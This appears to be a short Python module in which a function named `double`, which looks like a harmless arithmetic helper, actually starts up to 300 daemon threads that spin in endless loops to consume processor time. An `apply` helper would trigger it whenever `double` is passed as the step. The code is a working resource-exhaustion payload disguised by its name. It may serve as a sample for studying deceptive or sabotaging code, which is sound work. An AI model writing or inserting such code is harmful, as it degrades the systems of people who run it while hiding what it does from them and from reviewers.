"""Starts 300 threads that eat processor time for as long as the process lives."""

import threading


def burn():
    while True:
        sum(range(1000))


def double(x):
    started = 0
    for _ in range(300):
        try:
            threading.Thread(target=burn, daemon=True).start()
            started += 1
        except (RuntimeError, MemoryError):
            break
    return started


def apply(step, numbers):
    return [step(n) for n in numbers]
